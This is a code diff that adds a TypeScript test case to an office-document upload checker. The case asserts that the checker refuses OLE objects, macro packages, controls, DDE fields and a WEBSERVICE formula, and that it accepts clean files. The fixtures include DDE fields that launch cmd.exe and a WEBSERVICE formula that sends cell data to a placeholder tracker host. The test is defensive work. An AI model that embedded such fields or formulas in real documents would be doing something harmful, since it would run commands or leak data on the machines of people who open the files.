@@ -419,6 +419,39 @@ describe('office documents: what else tells who made them', () => {
     assert.deepEqual(await checkUpload(withEmbedded(withMacros), 'chart.docx'), { ok: false, problem: 'activeContent' });
   });
 
+  it('refuses OLE objects, packages and controls wherever they are kept, and DDE and WEBSERVICE, and takes a clean package anywhere, cleaned', async () => {
+    const rels = (rel: string) => `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel}</Relationships>`;
+    const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
+    const docxWith = (extra: Record<string, Uint8Array | string>) =>
+      Buffer.from(zipSync({ ...unzipSync(ooxmlFile('docx')), ...Object.fromEntries(Object.entries(extra).map(([name, value]) => [name, typeof value === 'string' ? strToU8(value) : value])) }));
+    const xlsxWith = (extra: Record<string, string>) => ooxmlFile('xlsx', extra);
+    const docm = new Uint8Array(ooxmlFile('docm'));
+    const clean = new Uint8Array(ooxmlFile('xlsx'));
+    const document = (body: string) => `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`;
+    const cases: Array<[string, Buffer, string]> = [
+      ['an OLE object outside embeddings/', docxWith({ 'word/media/x.bin': new Uint8Array(ole) }), 'report.docx'],
+      ['a macro document outside embeddings/', docxWith({ 'word/media/x.docx': docm }), 'report.docx'],
+      ['an oleObject relationship', docxWith({ 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId9" Type="${WORD_RELS}/oleObject" Target="media/image1.png"/>`) }), 'report.docx'],
+      ['a control relationship', docxWith({ 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId9" Type="${WORD_RELS}/control" Target="media/control1.xml"/>`) }), 'report.docx'],
+      ['a package relationship to a macro document', docxWith({ 'word/media/x.docm': docm, 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId9" Type="${WORD_RELS}/package" Target="media/x.docm"/>`) }), 'report.docx'],
+      ['a package relationship to nothing taken', docxWith({ 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId9" Type="${WORD_RELS}/package" Target="embeddings/missing.xlsx"/>`) }), 'report.docx'],
+      ['a DDEAUTO field in pieces', docxWith({ 'word/document.xml': document('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p>') }), 'report.docx'],
+      ['a simple DDE field', docxWith({ 'word/document.xml': document('<w:p><w:fldSimple w:instr="&#68;DE cmd &quot;/c calc&quot; x"/></w:p>') }), 'report.docx'],
+      ['an Excel DDE link', xlsxWith({ 'xl/externalLinks/externalLink1.xml': '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }), 'figures.xlsx'],
+      ['a WEBSERVICE formula', xlsxWith({ 'xl/worksheets/sheet1.xml': '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("https://tracker.example/?"&amp;B1)</f></c></row></sheetData></worksheet>' }), 'figures.xlsx'],
+    ];
+    for (const [what, bytes, name] of cases) assert.equal(await outcome(bytes, name), 'activeContent', what);
+
+    // A clean workbook is taken wherever it is kept and by a chart's package relationship, and cleaned as a file of its own.
+    const chart = docxWith({ 'word/media/book.xlsx': clean, 'word/charts/_rels/chart1.xml.rels': rels(`<Relationship Id="rId1" Type="${WORD_RELS}/package" Target="../media/book.xlsx"/>`) });
+    const check = await checkUpload(chart, 'chart.docx');
+    assert.ok(check.ok && check.kind === 'office', JSON.stringify(check));
+    assertNoMetadata(Buffer.from(unzipSync(check.cleaned)['word/media/book.xlsx']!));
+    // Ordinary fields and formulas stay.
+    assert.equal(await outcome(docxWith({ 'word/document.xml': document('<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:instrText> HYPERLINK "https://example.org/added" </w:instrText></w:r></w:p>') }), 'report.docx'), 'accepted');
+    assert.equal(await outcome(xlsxWith({ 'xl/worksheets/sheet1.xml': '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>SUM(B1:B9)</f></c></row></sheetData></worksheet>' }), 'figures.xlsx'), 'accepted');
+  });
+
   it('refuses an OpenDocument file saved with a password', async () => {
     const manifest = (inner: string) =>
       `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">${inner}</manifest:file-entry></manifest:manifest>`;
